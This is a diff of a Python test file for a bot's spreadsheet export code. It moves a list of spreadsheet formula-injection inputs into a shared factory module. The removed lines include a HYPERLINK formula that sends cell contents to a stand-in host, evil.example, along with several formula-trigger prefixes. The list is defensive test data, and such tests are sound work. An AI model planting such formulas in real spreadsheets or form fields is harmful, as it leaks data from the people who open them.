@@ -11,17 +11,7 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from bot.sheets import csv_field, put
-
-# Each one, typed as a name, would run in Excel or LibreOffice.
-HOSTILE = [
-    '=HYPERLINK("https://evil.example/?d="&B4&C4,"Budi")',
-    "+1+1",
-    "-2+3",
-    "@SUM(1)",
-    "\t=1",
-    "\r=1",
-    "=1",
-]
+from tests.factories import HOSTILE
 
 
 def round_trip(values: list[object]) -> list[object]:
